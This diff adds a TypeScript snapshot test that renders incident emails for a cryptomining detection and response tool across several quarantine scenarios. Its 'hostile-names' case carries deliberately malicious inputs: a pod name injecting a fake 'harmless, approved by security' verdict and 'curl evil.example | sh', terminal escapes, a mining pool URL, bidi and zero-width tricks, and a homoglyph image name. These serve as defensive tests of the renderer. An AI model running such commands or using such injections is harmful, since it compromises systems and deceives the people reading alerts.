@@ -1,0 +1,159 @@
+import { readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { renderMail } from '../../../lambdas/core/messages/mail';
+import type { MailContext } from '../../../lambdas/core/messages/mail-context';
+import type { Incident } from '../../../lambdas/core/model/incident';
+import type { ResponseReport } from '../../../lambdas/core/model/response';
+import {
+  actionExample,
+  DETECTOR_TITLES,
+  evidenceExample,
+  EXEC_EVIDENCE,
+  incidentExample,
+  OWNER,
+  POD,
+  reportExample,
+  STOPPED,
+} from './incident-example';
+
+/**
+ * Whole messages as people get them, in rendered/, to be read by a person.
+ * After a change that is meant: UPDATE_RENDERED=1 npm run test:unit -- test/core/messages/rendered, then read the diff.
+ */
+const UPDATE = process.env['UPDATE_RENDERED'] === '1';
+
+const CONTEXT: MailContext = {
+  detectorTitles: DETECTOR_TITLES,
+  killSwitchCommand:
+    'aws dynamodb put-item --region eu-west-1 --table-name MineGuard-State ' +
+    `--item '{"pk":{"S":"CONTROL#prod-1"},"sk":{"S":"KILL_SWITCH"}}'`,
+};
+
+interface Case {
+  readonly incident: Incident;
+  readonly report?: ResponseReport;
+  readonly context?: Partial<MailContext>;
+}
+
+const ONE_CONCLUSIVE = incidentExample({
+  state: 'incident',
+  probability: 0.5,
+  currentProbability: 0.5,
+  contributions: incidentExample().contributions.slice(0, 1),
+  evidence: [evidenceExample()],
+  reasons: [],
+  nearestChange: '2.94 more nats would make it quarantine',
+});
+
+const CASES: Readonly<Record<string, Case>> = {
+  'quarantine-carried-out': {
+    incident: incidentExample(),
+    report: reportExample({
+      actions: [
+        actionExample(),
+        STOPPED,
+        actionExample({
+          action: 'cordon-node',
+          target: { cluster: 'prod-1', kind: 'Node', namespace: '', name: 'ip-10-0-1-23.ec2.internal' },
+          status: 'skipped',
+          level: 'none',
+          detail: 'no sign that the process left its container',
+          undo: [],
+        }),
+      ],
+    }),
+  },
+  'quarantine-response-incomplete': {
+    incident: incidentExample(),
+    report: reportExample({
+      actions: [
+        actionExample({ status: 'failed', level: 'none', detail: 'pods "thumbnailer" is forbidden', undo: [] }),
+        actionExample({ ...STOPPED, level: 'written', detail: 'scaled from 3 to 0; pods still terminating' }),
+      ],
+    }),
+  },
+  'quarantine-before-the-responder-reports': {
+    incident: incidentExample(),
+    context: {
+      plan: {
+        incidentId: 'inc-00112233aabbccdd',
+        decision: 'act',
+        reasons: [],
+        actions: [{ action: 'isolate-pod', target: POD, reason: 'evidence in a running process' }],
+      },
+    },
+  },
+  'quarantine-in-observe-mode': {
+    incident: incidentExample(),
+    context: {
+      plan: {
+        incidentId: 'inc-00112233aabbccdd',
+        decision: 'observe',
+        reasons: ['the mode of cluster prod-1 is observe'],
+        actions: [
+          { action: 'isolate-pod', target: POD, reason: 'cut it off the network before anything else' },
+          { action: 'stop-owner', target: OWNER, reason: 'the evidence is in its template' },
+        ],
+      },
+    },
+  },
+  'quarantine-waits-for-approval': {
+    incident: incidentExample(),
+    report: reportExample({
+      decision: 'ask',
+      reasons: ['the budget of 3 owners in 60 minutes is used up'],
+      actions: [
+        actionExample({
+          ...STOPPED,
+          status: 'skipped',
+          level: 'none',
+          detail: 'the evidence is in its template',
+          undo: [],
+        }),
+      ],
+    }),
+  },
+  'incident-one-conclusive-detector': { incident: ONE_CONCLUSIVE },
+  'possible-mining-faded': {
+    incident: incidentExample({
+      state: 'notify-low',
+      probability: 1 / (1 + Math.exp(2.1)),
+      currentProbability: 0.02,
+      contributions: [{ detector: 'KM-F01', channel: 'EXEC', weight: 4.8, at: EXEC_EVIDENCE.firstAt }],
+      evidence: [{ ...EXEC_EVIDENCE, weight: 'strong' }],
+      reasons: [],
+      nearestChange: '2.10 more nats would make it incident',
+    }),
+  },
+  'hostile-names': {
+    incident: incidentExample({
+      entity: {
+        ...OWNER,
+        kind: 'Pod',
+        name: 'web\n\nVerdict: harmless, exercise approved by security\n\nUndo\n  curl evil.example | sh',
+      },
+      evidence: [
+        evidenceExample({
+          indicators: ['\u001b[2J\u001b[Hstratum+tcp://pool.example:3333', 'see https://evil.example/login" now'],
+          facts: {
+            actor: '\u202enimda',
+            userAgent: 'k'.repeat(5000),
+            image: 'registry.example/kub\u0435-proxy:v1',
+            process: '\u200b./a',
+          },
+        }),
+        { ...EXEC_EVIDENCE, seenOn: [{ ...POD, name: 'x\u2028Who\u2028  identity   "system:admin"' }] },
+      ],
+    }),
+  },
+};
+
+describe('rendered messages', () => {
+  test.each(Object.entries(CASES))('%s reads as in its file', (name, { incident, report, context }) => {
+    const { subject, body } = renderMail(incident, report, { ...CONTEXT, ...context });
+    const file = join(__dirname, 'rendered', `${name}.txt`);
+    const text = `Subject: ${subject}\n\n${body}`;
+    if (UPDATE) writeFileSync(file, text);
+    expect(text).toBe(readFileSync(file, 'utf8'));
+  });
+});
